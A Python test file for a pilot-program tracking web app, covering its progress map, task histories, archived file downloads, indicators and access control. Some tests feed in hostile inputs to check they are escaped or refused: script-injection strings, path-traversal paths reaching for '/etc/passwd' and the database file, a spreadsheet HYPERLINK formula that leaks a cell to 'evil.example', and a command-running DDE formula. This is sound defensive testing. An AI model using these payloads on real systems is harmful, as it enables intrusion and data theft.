"""The board's battle map (挂图作战), a task's history, the archived originals and the
indicators board, on the demo played to 2021-04-08: what the office and a leader see, the
figures checked against the database by hand, and the requests that must find nothing."""

from __future__ import annotations

import hashlib
import re
from datetime import date, datetime
from html.parser import HTMLParser
from itertools import pairwise
from typing import Any
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from sqlmodel import Session, select

from pilot_tracker.models import (
    Extension,
    Flag,
    Indicator,
    IndicatorReading,
    Milestone,
    Program,
    StatusReport,
    Submission,
    Task,
    TaskList,
    Unit,
)

from .board_fixtures import NOW, PLAYED_TO, BoardUnderTest

TODAY = PLAYED_TO


# --- reading the page ------------------------------------------------------------------------


class MapGrid(HTMLParser):
    """The battle map of a page: its column heads (task codes) and, per unit name, its
    cells (class, text, link)."""

    def __init__(self, html: str):
        super().__init__(convert_charrefs=True)
        self.codes: list[str] = []
        self.rows: dict[str, list[dict[str, Any]]] = {}
        self._inside = False
        self._codes_row = False
        self._code: list[str] | None = None
        self._unit: list[str] | None = None
        self._unit_done = False
        self._current = ""
        self._cell: dict[str, Any] | None = None
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        classes = (found.get("class") or "").split()
        if tag == "table" and "battle-map" in classes:
            self._inside = True
        if not self._inside:
            return
        if tag == "tr":
            self._codes_row = "codes" in classes
        elif tag == "a" and self._codes_row:
            self._code = []
        elif tag == "th" and found.get("scope") == "row":
            self._unit, self._unit_done = [], False
        elif tag == "span" and self._unit is not None:
            self._unit_done = True  # the flag's mark after the name
        elif tag == "td":
            self._cell = {"class": classes, "text": "", "href": None}
        elif tag == "a" and self._cell is not None:
            self._cell["href"] = found.get("href")

    def handle_endtag(self, tag: str) -> None:
        if not self._inside:
            return
        if tag == "table":
            self._inside = False
        elif tag == "a" and self._code is not None:
            self.codes.append("".join(self._code).strip())
            self._code = None
        elif tag == "th" and self._unit is not None:
            self._current = "".join(self._unit).strip()
            self.rows[self._current] = []
            self._unit = None
        elif tag == "td" and self._cell is not None:
            self._cell["text"] = self._cell["text"].strip()
            self.rows[self._current].append(self._cell)
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._code is not None:
            self._code.append(data)
        elif self._unit is not None and not self._unit_done:
            self._unit.append(data)
        elif self._cell is not None:
            self._cell["text"] += data

    def cell(self, unit: str, code: str) -> dict[str, Any]:
        return self.rows[unit][self.codes.index(code)]


def forms(html: str) -> list[tuple[str, str]]:
    """Every form of a page: (method, action)."""
    return [
        (
            (re.search(r'method="(\w+)"', tag) or re.search("()", "")).group(1).lower(),
            (re.search(r'action="([^"]*)"', tag) or re.search("()", "")).group(1),
        )
        for tag in re.findall(r"<form\b[^>]*>", html)
    ]


# --- the figures, worked out by hand from the database -------------------------------------


def program_id(session: Session, code: str) -> int:
    return session.exec(select(Program.id).where(Program.code == code)).one()


def planned_by_hand(
    start: date, due: date, milestones: list[tuple[date, float]], day: date
) -> float | None:
    """The planned percent: straight lines through the milestones from 0 at the start, or
    from 0 at the start to 100 at the due date; None before the start."""
    if day < start:
        return None
    points = [(start, 0.0), *(sorted(milestones) or [(due, 100.0)])]
    for (before, low), (after, high) in pairwise(points):
        if day <= after:
            span = (after - before).days
            return round(low + (high - low) * ((day - before).days / span if span else 1), 1)
    return points[-1][1]


def band_by_hand(percent: float | None, planned: float | None) -> str:
    if percent is None:
        return "not_due" if planned is None else "unreported"
    gap = (planned or 0) - percent
    return "on_plan" if gap <= 5 else "behind" if gap <= 15 else "far_behind"


def expected_cells(board: BoardUnderTest, code: str) -> dict[str, dict[str, Any]]:
    """For each task of a program: its lead unit's name, its co-units' names, its lead's
    latest percent by TODAY and its band, from SQL written for this test."""
    with board.engine.connect() as connection:
        tasks = connection.execute(
            sa.text(
                "SELECT t.id, t.code, t.start_date, t.due_date, u.name FROM task t "
                "JOIN unit u ON u.id = t.lead_unit_id JOIN program p ON p.id = t.program_id "
                "WHERE p.code = :code"
            ),
            {"code": code},
        ).all()
        found = {}
        for task_id, task, start, due, lead in tasks:
            milestones = connection.execute(
                sa.text("SELECT planned_on, planned_percent FROM milestone WHERE task_id = :t"),
                {"t": task_id},
            ).all()
            latest = connection.execute(
                sa.text(
                    "SELECT r.percent FROM status_report r JOIN task t ON t.id = r.task_id "
                    "WHERE r.task_id = :t AND r.unit_id = t.lead_unit_id "
                    "AND r.reported_on <= :day "
                    "ORDER BY r.reported_on DESC, r.submission_id DESC LIMIT 1"
                ),
                {"t": task_id, "day": TODAY.isoformat()},
            ).first()
            co_units = connection.execute(
                sa.text(
                    "SELECT u.name FROM task_co_unit c JOIN unit u ON u.id = c.unit_id "
                    "WHERE c.task_id = :t"
                ),
                {"t": task_id},
            ).all()
            day = lambda value: date.fromisoformat(str(value))  # noqa: E731
            planned = planned_by_hand(
                day(start), day(due), [(day(on), p) for on, p in milestones], TODAY
            )
            percent = latest[0] if latest else None
            found[task] = {
                "lead": lead,
                "co_units": [name for (name,) in co_units],
                "percent": percent,
                "band": band_by_hand(percent, planned),
            }
    return found


# --- the map ---------------------------------------------------------------------------------


def test_the_map_shows_every_unit_and_task_in_the_band_worked_out_by_hand(
    board: BoardUnderTest,
) -> None:
    page = board.client("office-xs").get("/p/xiangshan")
    assert page.status_code == 200
    grid = MapGrid(page.text)
    expected = expected_cells(board, "xiangshan")
    with Session(board.engine) as session:
        units = session.exec(
            select(Unit.name)
            .where(Unit.program_id == program_id(session, "xiangshan"))
            .order_by(Unit.position)
        ).all()
    assert list(grid.rows) == list(units)  # every unit, in the ledger's order
    assert sorted(grid.codes) == sorted(expected)
    bands = set()
    for task, figures in expected.items():
        lead = grid.cell(figures["lead"], task)
        assert f"band-{figures['band']}" in lead["class"], (task, figures, lead)
        shown = "—" if figures["percent"] is None else f"{figures['percent']:g}"
        assert lead["text"] == shown
        assert lead["href"] == f"/p/xiangshan/tasks/{task}"
        bands.add(figures["band"])
        for name in figures["co_units"]:
            co = grid.cell(name, task)
            assert co["text"] == "配" and "co" in co["class"]
            assert f"band-{figures['band']}" in co["class"]
        others = set(units) - {figures["lead"], *figures["co_units"]}
        assert all(grid.cell(name, task)["text"] == "" for name in others)
    assert {"on_plan", "far_behind", "unreported"} <= bands  # the demo's Q1 has them all
    # The counts above the map: every task once, in its band.
    for band, label in (("on_plan", "按计划"), ("far_behind", "落后15点以上")):
        count = sum(1 for f in expected.values() if f["band"] == band)
        assert re.search(rf"{label} <b>{count}</b> 项", page.text), band


def test_a_cell_links_to_the_history_of_its_task(board: BoardUnderTest) -> None:
    browser = board.client("office-xs")
    grid = MapGrid(browser.get("/p/xiangshan").text)
    with Session(board.engine) as session:
        task = session.exec(select(Task).where(Task.code == grid.codes[3])).one()
        lead = session.get(Unit, task.lead_unit_id)
    assert lead is not None
    history = browser.get(grid.cell(lead.name, task.code)["href"])
    assert history.status_code == 200
    assert task.title in history.text and lead.name in history.text
    assert "报送记录" in history.text and "预警记录" in history.text


def test_the_filters_narrow_the_rows_and_the_columns(board: BoardUnderTest) -> None:
    browser = board.client("office-xs")
    everything = MapGrid(browser.get("/p/xiangshan").text)
    with Session(board.engine) as session:
        xs = program_id(session, "xiangshan")
        mechanism = session.exec(
            select(Task.code)
            .join(TaskList, TaskList.id == Task.task_list_id)
            .where(Task.program_id == xs, TaskList.kind == "mechanism")
        ).all()
        day = max(session.exec(select(Flag.as_of).where(Flag.program_id == xs)).all())
        red_units = set(
            session.exec(
                select(Unit.name)
                .join(Flag, Flag.unit_id == Unit.id)
                .where(Flag.program_id == xs, Flag.as_of == day, Flag.severity == "red")
            ).all()
        )
        red_tasks = set(
            session.exec(
                select(Task.code)
                .join(Flag, Flag.task_id == Task.id)
                .where(Flag.program_id == xs, Flag.as_of == day, Flag.severity == "red")
            ).all()
        )
        tw = session.exec(select(Unit).where(Unit.program_id == xs, Unit.code == "tw")).one()

    by_list = MapGrid(browser.get("/p/xiangshan?list=mechanism").text)
    assert sorted(by_list.codes) == sorted(mechanism) and len(by_list.codes) < len(everything.codes)
    assert 0 < len(by_list.rows) < len(everything.rows)  # units with no part in it left out
    assert all(any(cell["text"] for cell in cells) for cells in by_list.rows.values())

    by_unit = MapGrid(browser.get("/p/xiangshan?unit=tw").text)
    assert list(by_unit.rows) == [tw.name]
    assert all(cell["text"] for cell in by_unit.rows[tw.name])  # only its own tasks
    assert 0 < len(by_unit.codes) < len(everything.codes)

    assert red_units, "the played demo has red flags on its latest day"
    by_flag = MapGrid(browser.get("/p/xiangshan?flag=red").text)
    assert set(by_flag.rows) == red_units
    assert red_tasks <= set(by_flag.codes) < set(everything.codes)
    assert len(MapGrid(browser.get("/p/xiangshan?flag=any").text).rows) >= len(red_units)

    both = MapGrid(browser.get("/p/xiangshan?list=mechanism&unit=tw").text)
    assert list(both.rows) == [tw.name] and set(both.codes) <= set(mechanism)


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("unit=nobody", "本试点没有代码为“nobody”的成员单位"),
        ("list=other", "没有“other”这类任务清单"),
        ("flag=orange", "“orange”不是预警筛选项"),
        ("unit=" + "x" * 500, "本试点没有代码为“" + "x" * 40 + "”的成员单位"),
    ],
)
def test_an_unknown_filter_is_said_at_its_field_and_the_map_shown_without_it(
    board: BoardUnderTest, query: str, said: str
) -> None:
    page = board.client("office-xs").get(f"/p/xiangshan?{query}")
    assert page.status_code == 400
    assert said in page.text
    assert 'aria-invalid="true"' in page.text
    assert len(MapGrid(page.text).rows) == 30  # the map, not a bare error page


def test_a_filter_value_with_markup_is_shown_escaped(board: BoardUnderTest) -> None:
    page = board.client("office-xs").get(
        "/p/xiangshan", params={"flag": "<script>alert(1)</script>"}
    )
    assert page.status_code == 400
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text
    assert "<script" not in page.text


def test_the_flags_of_the_latest_day_are_listed_under_the_map(board: BoardUnderTest) -> None:
    page = board.client("office-xs").get("/p/xiangshan")
    with Session(board.engine) as session:
        xs = program_id(session, "xiangshan")
        day = max(session.exec(select(Flag.as_of).where(Flag.program_id == xs)).all())
        flags = session.exec(select(Flag).where(Flag.program_id == xs, Flag.as_of == day)).all()
    assert f"{day.isoformat()}检查，{len(flags)} 条" in page.text
    flags_section = page.text.split('id="flags"')[1]
    for flag in flags:
        assert flag.details["message"] in flags_section
    assert "进度落后" in flags_section and "逾期未完成" in flags_section
    assert re.search(r'class="sev sev-red">红<', flags_section)


# --- a task's history --------------------------------------------------------------------------


def test_the_history_lists_every_report_with_its_submission(board: BoardUnderTest) -> None:
    with Session(board.engine) as session:
        task = session.exec(select(Task).where(Task.code == "XS-FZ-01")).one()
        rows = session.exec(
            select(StatusReport, Submission)
            .join(Submission, Submission.id == StatusReport.submission_id)
            .where(StatusReport.task_id == task.id)
        ).all()
    assert rows, "the demo reported on XS-FZ-01"
    page = board.client("office-xs").get("/p/xiangshan/tasks/XS-FZ-01")
    assert page.status_code == 200
    assert f"报送记录（{len(rows)}条，最新在前）" in page.text
    for report, submission in rows:
        assert f"<b>{report.percent:g}%</b>" in page.text
        assert f"<code>{submission.sha256}</code>" in page.text
        assert f'href="/p/xiangshan/submissions/{submission.id}"' in page.text
        assert submission.filename in page.text
    days = re.findall(
        r'<li class="report"[^>]*>\s*<div class="task-head">(\d{4}-\d\d-\d\d)', page.text
    )
    assert days == sorted(days, reverse=True) and len(days) == len(rows)


def test_the_archived_original_downloads_as_the_bytes_of_its_record(board: BoardUnderTest) -> None:
    browser = board.client("office-xs")
    page = browser.get("/p/xiangshan/tasks/XS-FZ-01")
    link = re.search(r'href="(/p/xiangshan/submissions/(\d+))"', page.text)
    assert link is not None
    answer = browser.get(link.group(1))
    assert answer.status_code == 200
    with Session(board.engine) as session:
        submission = session.get(Submission, int(link.group(2)))
    assert submission is not None
    assert hashlib.sha256(answer.content).hexdigest() == submission.sha256
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=utf-8''{quote(submission.filename)}" in disposition  # RFC 5987
    assert answer.headers["content-type"] == "application/octet-stream"


def add_submission(board: BoardUnderTest, **fields: Any) -> int:
    """A submission row of xiangshan's first unit, with ``fields`` over a stored one's."""
    with Session(board.engine) as session:
        xs = program_id(session, "xiangshan")
        model = session.exec(select(Submission).where(Submission.program_id == xs)).first()
        assert model is not None
        row = Submission(
            **{
                **model.model_dump(exclude={"id"}),
                "sha256": hashlib.sha256(repr(fields).encode()).hexdigest(),
                **fields,
            }
        )
        session.add(row)
        session.commit()
        return row.id or 0


def test_a_head_only_archive_downloads_as_what_it_is(board: BoardUnderTest) -> None:
    with Session(board.engine) as session:
        stored = session.exec(select(Submission)).first()
        assert stored is not None
    number = add_submission(
        board, archived="head", filename="超大报送表.xlsx", archive_path=stored.archive_path
    )
    answer = board.client("office-xs").get(f"/p/xiangshan/submissions/{number}")
    assert answer.status_code == 200
    assert quote("前1MB-超大报送表.xlsx.part") in answer.headers["content-disposition"]


@pytest.mark.parametrize(
    "archive_path",
    [
        "archive/00/" + "0" * 64,  # the record names a file the archive lost
        "pilot-tracker.db",  # a record pointing outside the archive
        "archive/../pilot-tracker.db",
        "/etc/passwd",
    ],
)
def test_a_file_not_in_the_archive_is_not_found(board: BoardUnderTest, archive_path: str) -> None:
    number = add_submission(board, archive_path=archive_path)
    answer = board.client("office-xs").get(f"/p/xiangshan/submissions/{number}")
    assert answer.status_code == 404
    assert "没有找到这份报送文件" in answer.text


def test_a_submission_of_another_program_is_not_found(board: BoardUnderTest) -> None:
    with Session(board.engine) as session:
        theirs = session.exec(
            select(Submission.id).where(Submission.program_id == program_id(session, "yinzhou"))
        ).first()
    answer = board.client("office-xs").get(f"/p/xiangshan/submissions/{theirs}")
    assert answer.status_code == 404
    assert "没有找到这份报送文件" in answer.text
    # ... and it is there, for its own program's office
    assert board.client("office-yz").get(f"/p/yinzhou/submissions/{theirs}").status_code == 200


@pytest.mark.parametrize(
    "path",
    [
        "/p/xiangshan/submissions/999999",
        "/p/xiangshan/submissions/abc",
        "/p/xiangshan/submissions/-1",
        "/p/xiangshan/submissions/1.0",
        "/p/xiangshan/submissions/%EF%BC%92",  # a full-width digit
        "/p/xiangshan/submissions/" + "9" * 40,
        "/p/xiangshan/submissions/..%2F..%2Fpilot-tracker.db",
        "/p/xiangshan/submissions/%2e%2e%2f%2e%2e%2fpilot-tracker.db",
        "/p/xiangshan/submissions/..%5C..%5Cpilot-tracker.db",
        "/p/xiangshan/submissions/%2E%2E",
        "/p/xiangshan/submissions/2%00",
        "/p/xiangshan/tasks/..%2F..%2Fsubmissions%2F2",
        "/p/xiangshan/tasks/NO-SUCH-TASK",
        "/p/xiangshan/tasks/YZ-JZ-01",  # a task of another program
        "/p/xiangshan/tasks/%3Cscript%3E",
    ],
)
def test_ids_and_path_tricks_in_the_url_find_nothing(board: BoardUnderTest, path: str) -> None:
    answer = board.client("office-xs").get(path)
    assert answer.status_code == 404
    assert "SQLite format" not in answer.text and "<script>" not in answer.text
    assert "content-disposition" not in answer.headers


def test_narrative_with_markup_and_formulas_is_shown_as_text(board: BoardUnderTest) -> None:
    with Session(board.engine) as session:
        task = session.exec(select(Task).where(Task.code == "XS-FZ-01")).one()
        submission = session.exec(
            select(Submission).where(Submission.unit_id == task.lead_unit_id)
        ).first()
        assert submission is not None
        session.add(
            StatusReport(
                submission_id=submission.id,  # type: ignore[arg-type]
                task_id=task.id,  # type: ignore[arg-type]
                unit_id=task.lead_unit_id,
                period="2021-04",
                status="in_progress",
                percent=77,
                progress="<script>alert('xss')</script>推进中",
                problems='=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
                next_steps="<img src=x onerror=alert(1)>",
                evidence="@SUM(1+1)*cmd|' /C calc'!A0",
                reported_on=TODAY,
            )
        )
        session.commit()
        lead = session.get(Unit, task.lead_unit_id)
    assert lead is not None
    browser = board.client("office-xs")
    page = browser.get("/p/xiangshan/tasks/XS-FZ-01")
    assert page.status_code == 200
    assert "&lt;script&gt;alert(&#39;xss&#39;)&lt;/script&gt;推进中" in page.text
    assert "&lt;img src=x onerror=alert(1)&gt;" in page.text
    assert "=HYPERLINK(&#34;http://evil.example/?d=&#34;&amp;A1,&#34;点击查看&#34;)" in page.text
    assert "<script" not in page.text and "<img" not in page.text
    assert 'href="http://evil' not in page.text
    # The map takes the newest report: today's 77%.
    assert MapGrid(browser.get("/p/xiangshan").text).cell(lead.name, "XS-FZ-01")["text"] == "77"


def test_an_approved_extension_moves_the_due_date_and_the_plan(board: BoardUnderTest) -> None:
    from pilot_tracker.supervise import extensions

    with Session(board.engine, expire_on_commit=False) as session:
        pending = session.exec(select(Extension).where(Extension.status == "pending")).one()
        task = session.get(Task, pending.task_id)
        assert task is not None
        extensions.decide(
            session=session, extension_id=pending.id or 0, approve=True, note="", now=NOW
        )
        session.commit()
        milestones = session.exec(
            select(Milestone.planned_on, Milestone.planned_percent).where(
                Milestone.task_id == task.id
            )
        ).all()
    moved = [
        (pending.proposed_due if on == task.due_date else on, percent) for on, percent in milestones
    ]
    planned = planned_by_hand(task.start_date, pending.proposed_due, moved, TODAY)
    assert planned is not None
    page = board.client("office-xs").get(f"/p/xiangshan/tasks/{task.code}")
    assert f"原定 {task.due_date.isoformat()}" in page.text
    assert f"延期至 {pending.proposed_due.isoformat()}" in page.text
    assert f"{planned:g}%" in page.text
    assert "已批准" in page.text and "需协调多部门联合推进" in page.text


# --- the indicators --------------------------------------------------------------------------


def test_the_indicators_are_listed_by_level_with_their_latest_reading(
    board: BoardUnderTest,
) -> None:
    page = board.client("office-yz").get("/p/yinzhou/indicators")
    assert page.status_code == 200
    with Session(board.engine) as session:
        yz = program_id(session, "yinzhou")
        indicators = session.exec(select(Indicator).where(Indicator.program_id == yz)).all()
        readings = session.exec(
            select(IndicatorReading)
            .join(Indicator, Indicator.id == IndicatorReading.indicator_id)
            .where(Indicator.program_id == yz, IndicatorReading.as_of <= TODAY)
            .order_by(IndicatorReading.as_of, IndicatorReading.submission_id)
        ).all()
    for level, label in (
        ("national", "国家指标"),
        ("provincial", "省级指标"),
        ("self_set", "自设指标"),
    ):
        count = sum(1 for i in indicators if i.level == level)
        assert f"{label}（{count}项）" in page.text
    latest = {reading.indicator_id: reading for reading in readings}
    assert latest, "the demo read indicators in Q1"
    for indicator in indicators:
        row = page.text.split(f'id="indicator-{indicator.code}"')[1].split("</tr>")[0]
        assert indicator.name in row and f"{indicator.target_value:g}" in row
        reading = latest.get(indicator.id)
        if reading is None:
            assert "暂无" in row and "暂无数据" in row
        else:
            assert f"{reading.value:g}" in row and reading.as_of.isoformat() in row


def test_a_program_without_indicators_says_so(board: BoardUnderTest) -> None:
    page = board.client("office-xs").get("/p/xiangshan/indicators")
    assert page.status_code == 200
    assert "本试点未设置主要发展指标" in page.text


# --- who may look ------------------------------------------------------------------------------


def test_the_office_of_another_program_finds_nothing_of_xiangshan(board: BoardUnderTest) -> None:
    with Session(board.engine) as session:
        ours = session.exec(
            select(Submission.id).where(Submission.program_id == program_id(session, "xiangshan"))
        ).first()
    browser = board.client("office-yz")
    missing = browser.get("/p/nowhere")
    assert missing.status_code == 404
    for path in (
        "/p/xiangshan",
        "/p/xiangshan?flag=red",
        "/p/xiangshan/tasks/XS-JZ-01",
        "/p/xiangshan/indicators",
        f"/p/xiangshan/submissions/{ours}",
    ):
        answer = browser.get(path)
        assert answer.status_code == 404, path
        assert answer.text == missing.text  # the same page as for no program at all


def test_a_leader_reads_the_map_and_has_no_form_but_logout(board: BoardUnderTest) -> None:
    browser = board.client("leader-xs")
    for path in ("/p/xiangshan", "/p/xiangshan/tasks/XS-JZ-01", "/p/xiangshan/indicators"):
        page = browser.get(path)
        assert page.status_code == 200, path
        posted = [action for method, action in forms(page.text) if method != "get"]
        assert posted == ["/logout"], path
    grid = MapGrid(browser.get("/p/xiangshan").text)
    assert len(grid.rows) == 30 and len(grid.codes) == 31


def test_an_anonymous_visitor_is_sent_to_sign_in(board: BoardUnderTest) -> None:
    for path in ("/p/xiangshan", "/p/xiangshan/tasks/XS-JZ-01", "/p/xiangshan/submissions/2"):
        answer = board.anonymous.get(path, follow_redirects=False)
        assert answer.status_code == 303
        assert answer.headers["location"].startswith("/login")


def test_the_map_answers_for_a_day_before_the_first_flag(board: BoardUnderTest) -> None:
    board.clock[0] = datetime(2021, 1, 2, 2, 0, tzinfo=NOW.tzinfo)
    page = board.client("office-xs").get("/p/xiangshan")
    assert page.status_code == 200
    assert "截至2021年1月2日" in page.text
    assert "未开始 <b>" in page.text
    assert "本试点尚未运行预警检查" in page.text  # no flag on record by that day
